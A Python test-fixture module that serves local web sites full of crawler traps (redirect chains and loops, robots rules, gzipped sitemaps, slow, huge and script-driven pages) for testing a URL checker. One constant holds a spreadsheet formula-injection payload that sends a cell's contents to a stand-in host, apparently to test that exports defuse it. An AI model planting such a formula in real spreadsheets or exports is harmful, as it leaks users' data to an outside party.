"""Local web sites for the tests of the URL checker and the site crawl: pages with known answers, pages held until
the test lets them go (to catch a check at work), and a small site with the traps real sites have.

LocalSite, from / : a home page linking to everything below, and the traps:
  redirects: /old (301 to /page/1), /moved (301) → /moved-again (302) → /moved-last (307) → /moved-final
             (308) → /about, and a loop /loop-a (302) ⇄ /loop-b (301)
  robots.txt: Disallow /private/ (linked from the home page), Crawl-delay none; its Sitemap line names the index
  /calendar/2026-01 : a calendar with a link to the next month, for ever
  /dup/1 and /dup/2 : the same title and description
  /missing (404), /error (500), a link to a host that is not there
  /sitemap-index.xml → /sitemap-pages.xml.gz (gzipped) → lists /orphan, which nothing links to
  /slow (answers after SLOW seconds), /huge (a HUGE-byte page), /report.pdf, /data.json (non-HTML)
  /noindex (meta robots), /header-noindex (X-Robots-Tag), /canonical (canonical to /about), /hreflang,
  /formula (a title a spreadsheet would run: FORMULA)
  /js (a script retitles it and links /js-only), /js-moved (a script sends it to /about): linked from nowhere
BigSite: a site of `pages` generated pages, ten links down from each, for the bench.
"""

import asyncio
import gzip
import html
import threading
import time

from starlette.applications import Starlette
from starlette.responses import HTMLResponse, PlainTextResponse, RedirectResponse, Response
from starlette.routing import Route

SLOW = 1.5
HUGE = 3 * 1024 * 1024
ORPHAN = "/orphan"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def page(title: str, *links: str, body: str = "", head: str = "", description: str | None = None) -> str:
    meta = f'<meta name="description" content="{description if description is not None else title}">'
    anchors = "".join(f'<li><a href="{link}">{link}</a></li>' for link in links)
    return (f"<!doctype html><html><head><title>{title}</title>{meta}{head}</head>"
            f"<body><h1>{title}</h1><p>{body or 'Words on the page.'}</p><ul>{anchors}</ul></body></html>")


HOME_LINKS = ["/about", "/old", "/moved", "/loop-a", "/private/secret", "/calendar/2026-01", "/dup/1", "/dup/2",
              "/missing", "/error", "http://nothing.invalid/", "/slow", "/huge", "/report.pdf", "/data.json",
              "/noindex", "/header-noindex", "/canonical", "/hreflang", "/formula", "https://example.com/elsewhere",
              "mailto:someone@example.com", "#top"]
PAGES = {
    "/": page("Home", *HOME_LINKS, body="Welcome to the local site, with every trap a crawler meets."),
    "/about": page("About us", "/", body="Who we are and what we do here, in a few more words."),
    "/page/1": page("Page 1", "/"),
    "/dup/1": page("Same title", "/", description="Same description"),
    "/dup/2": page("Same title", "/", description="Same description"),
    "/noindex": page("Not to index", "/", head='<meta name="robots" content="noindex, follow">'),
    "/header-noindex": page("Not to index either", "/"),
    "/canonical": page("A copy of About", "/", head='<link rel="canonical" href="/about">'),
    "/hreflang": page("In English", "/", head='<link rel="alternate" hreflang="en" href="/hreflang">'
                                              '<link rel="alternate" hreflang="fr" href="/fr/hreflang">'),
    "/fr/hreflang": page("En français", "/"),
    "/formula": page(html.escape(FORMULA), "/", description="A title to run"),
    ORPHAN: page("Orphan", "/"),
    "/private/secret": page("Secret", "/"),
    # Linked from nowhere, for the crawls that start there: what only a browser running the scripts sees.
    "/js": page("As served", "/about", head="<link rel=canonical href=/js><script>"
                "addEventListener('DOMContentLoaded', () => {document.title = 'As rendered';"
                "document.querySelector('link[rel=canonical]').href = '/about';"
                "document.head.insertAdjacentHTML('beforeend', '<meta name=robots content=noindex>');"
                "const link = document.createElement('a'); link.href = '/js-only';"
                "link.textContent = 'Made by a script'; document.body.append(link)})</script>"),
    "/js-only": page("Only a script links here", "/"),
    "/js-moved": page("Moved by a script", "/", head="<script>location.replace('/about')</script>"),
}
REDIRECTS = {"/old": ("/page/1", 301), "/moved": ("/moved-again", 301), "/moved-again": ("/moved-last", 302),
             "/moved-last": ("/moved-final", 307), "/moved-final": ("/about", 308),
             "/loop-a": ("/loop-b", 302), "/loop-b": ("/loop-a", 301)}


class NotedSite:
    "A site that notes every request (time.monotonic() and path, in .requests) and how many it answers at once."

    def __init__(self, site):
        self.requests = []
        self.in_flight = self.most_in_flight = 0  # requests being answered: now, and at most

        async def app(scope, receive, send):
            if scope["type"] != "http": return await site(scope, receive, send)
            self.requests.append((time.monotonic(), scope["path"]))
            self.in_flight += 1
            self.most_in_flight = max(self.most_in_flight, self.in_flight)
            try: await site(scope, receive, send)
            finally: self.in_flight -= 1
        self.app = app


class LocalSite(NotedSite):
    def __init__(self):
        self.release = threading.Event()  # held pages answer once it is set
        self.held_now = 0  # held requests waiting
        self.dropped = 0  # held requests whose client went away
        super().__init__(Starlette(routes=[
            *(Route(path, self.fixed) for path in PAGES),
            *(Route(path, self.redirect) for path in REDIRECTS),
            Route("/page/{n}", lambda request: HTMLResponse(f"<title>Page {request.path_params['n']}</title>")),
            Route("/missing", lambda request: HTMLResponse("<title>Not found</title>", 404)),
            Route("/error", lambda request: HTMLResponse("<title>Server error</title>", 500)),
            Route("/held/{n}", self.held),
            Route("/calendar/{month}", self.calendar),
            Route("/slow", self.slow),
            Route("/huge", lambda request: HTMLResponse(page("Huge", "/", body="word " * (HUGE // 5)))),
            Route("/report.pdf", lambda request: Response(b"%PDF-1.4 not much", media_type="application/pdf")),
            Route("/data.json", lambda request: Response(b'{"a": 1}', media_type="application/json")),
            Route("/robots.txt", self.robots),
            Route("/sitemap-index.xml", self.sitemap_index),
            Route("/sitemap-pages.xml.gz", self.sitemap_pages),
        ]))

    async def fixed(self, request):
        path = request.url.path
        return HTMLResponse(PAGES[path], headers={"X-Robots-Tag": "noindex"} if path == "/header-noindex" else None)

    async def redirect(self, request):
        target, status = REDIRECTS[request.url.path]
        return RedirectResponse(target, status)

    async def calendar(self, request):
        year, month = map(int, request.path_params["month"].split("-"))
        later = f"{year + month // 12}-{month % 12 + 1:02d}"
        return HTMLResponse(page(f"Calendar {year}-{month:02d}", f"/calendar/{later}", "/"))

    async def slow(self, request):
        await asyncio.sleep(SLOW)
        return HTMLResponse(page("Slow", "/"))

    def robots(self, request):
        return PlainTextResponse(f"User-agent: *\nDisallow: /private/\n\nUser-agent: pickybot\nDisallow: /\n\n"
                                 f"Sitemap: {request.base_url}sitemap-index.xml\n")

    def sitemap_index(self, request):
        return Response(f'<?xml version="1.0" encoding="UTF-8"?><sitemapindex xmlns="http://www.sitemaps.org/'
                        f'schemas/sitemap/0.9"><sitemap><loc>{request.base_url}sitemap-pages.xml.gz</loc></sitemap>'
                        "</sitemapindex>", media_type="application/xml")

    def sitemap_pages(self, request):
        urls = "".join(f"<url><loc>{request.base_url}{path.lstrip('/')}</loc></url>"
                       for path in ("/", "/about", ORPHAN))
        xml = (f'<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
               f"{urls}</urlset>")
        return Response(gzip.compress(xml.encode()), media_type="application/gzip")

    async def held(self, request):
        self.held_now += 1
        try:
            while not self.release.is_set():
                if await request.is_disconnected():
                    self.dropped += 1
                    return HTMLResponse("")
                await asyncio.sleep(0.02)
        finally:
            self.held_now -= 1
        return HTMLResponse(f"<title>Held {request.path_params['n']}</title>")


class BigSite(NotedSite):
    """`pages` pages of a realistic size (a menu, paragraphs, links; about 7 KB) under /p/, and the home page: page n
    links to the home page, the menu's ten sections, its parent and its children 10n+1 … 10n+10, a tree of ten."""

    MENU = "".join(f'<li><a href="/p/{n}">Section {n}</a></li>' for n in range(1, 11))
    TEXT = "<p>" + "Some words about this page and what it offers to the person reading it. " * 40 + "</p>"

    def __init__(self, pages: int = 10_000):
        self.pages = pages
        super().__init__(Starlette(routes=[Route("/", self.home), Route("/p/{n:int}", self.page)]))

    def home(self, request): return self.draw(0)

    def page(self, request):
        n = request.path_params["n"]
        return self.draw(n) if n < self.pages else HTMLResponse("<title>Not found</title>", 404)

    def draw(self, n: int):
        children = "".join(f'<li><a href="/p/{child}">Page {child}</a></li>'
                           for child in range(10 * n + 1, min(10 * n + 11, self.pages)))
        return HTMLResponse(f'<!doctype html><html><head><title>Page {n}</title><meta name="description" '
                            f'content="Page {n} of the big site"></head><body><nav><ul><li><a href="/">Home</a></li>'
                            f'{self.MENU}</ul></nav><h1>Page {n}</h1>{self.TEXT}<ul>{children}</ul>'
                            f'<a href="/p/{n // 10}">Up</a>{self.TEXT}</body></html>')
